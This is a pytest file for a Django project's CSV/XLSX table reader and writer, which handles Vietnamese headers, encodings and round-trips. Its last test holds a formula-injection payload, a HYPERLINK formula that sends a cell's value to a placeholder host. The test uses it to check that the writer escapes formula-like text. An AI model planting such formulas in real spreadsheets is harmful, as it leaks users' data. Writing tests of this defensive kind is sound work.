"""Reading the files people actually have: Excel's CSV variants and real XLSX cells."""

from __future__ import annotations

import datetime
import io
import unicodedata

import pytest
from django.utils import translation

from chiso.org.tabular import TableError, read_table, write_table
from tests.org.helpers import csv_file, xlsx_file

ROWS = [["Mã", "Tên", "Hiệu lực từ"], ["stp", "Sở Tư pháp", "01/03/2025"]]


@pytest.mark.parametrize(
    "data",
    [
        csv_file(ROWS),
        csv_file(ROWS, bom=False),
        csv_file(ROWS, delimiter=";"),
        csv_file(ROWS, delimiter=";", bom=False),
    ],
    ids=["bom-comma", "comma", "bom-semicolon", "semicolon"],
)
def test_it_reads_csv_with_or_without_bom_and_either_delimiter(data: bytes) -> None:
    table = read_table(data, "a.csv")

    assert table.headers == ["Mã", "Tên", "Hiệu lực từ"]
    assert table.rows == [(2, ["stp", "Sở Tư pháp", "01/03/2025"])]


def test_it_reads_dates_and_numbers_from_xlsx_cells() -> None:
    data = xlsx_file(
        [
            ["Mã", "Khối năm", "Hiệu lực từ"],
            [None, None, None],
            ["stp", 2025, datetime.date(2025, 3, 1)],
        ]
    )

    table = read_table(data, "a.xlsx")

    assert table.rows == [(3, ["stp", "2025", datetime.date(2025, 3, 1)])]


def test_it_normalises_decomposed_vietnamese() -> None:
    table = read_table(csv_file([["Tên"], [unicodedata.normalize("NFD", "Sở Tư pháp")]]))

    assert table.rows[0][1] == ["Sở Tư pháp"]


@translation.override("vi")
def test_it_explains_files_it_cannot_read() -> None:
    with pytest.raises(TableError) as latin:
        read_table("Tên\nTư pháp\n".encode("cp1258"), "a.csv")
    with pytest.raises(TableError) as xls:
        read_table(b"\xd0\xcf\x11\xe0rest", "a.xls")
    with pytest.raises(TableError) as empty:
        read_table(b"", "a.csv")

    assert str(latin.value) == (
        "Tệp CSV không ở dạng UTF-8: hãy lưu lại với kiểu “CSV UTF-8 (Comma delimited)”."
    )
    assert str(xls.value) == "Không hỗ trợ tệp Excel cũ (.xls): hãy lưu lại thành .xlsx."
    assert str(empty.value) == "Tệp trống hoặc dòng đầu tiên không có tiêu đề cột."


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_it_reads_back_what_it_writes(fmt: str) -> None:
    data = write_table(["Mã", "Năm", "Từ ngày"], [["stp", 2025, datetime.date(2025, 3, 1)]], fmt)

    assert read_table(data).rows == [
        (2, ["stp", "2025", datetime.date(2025, 3, 1) if fmt == "xlsx" else "01/03/2025"])
    ]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_text_that_looks_like_a_formula_is_written_as_text_and_read_back(fmt: str) -> None:
    evil = '=HYPERLINK("http://example.invalid/?"&A2,"Bấm vào đây")'
    data = write_table(["Mã", "Tên"], [["x1", evil], ["x2", "-Sở lạ"]], fmt)
    if fmt == "xlsx":
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        assert sheet["B2"].data_type == "s"  # Excel shows the text, never runs it
    else:
        assert b"'=HYPERLINK" in data and b"'-S" in data
    assert [cells for _line, cells in read_table(data, f"a.{fmt}").rows] == [
        ["x1", evil],
        ["x2", "-Sở lạ"],
    ]
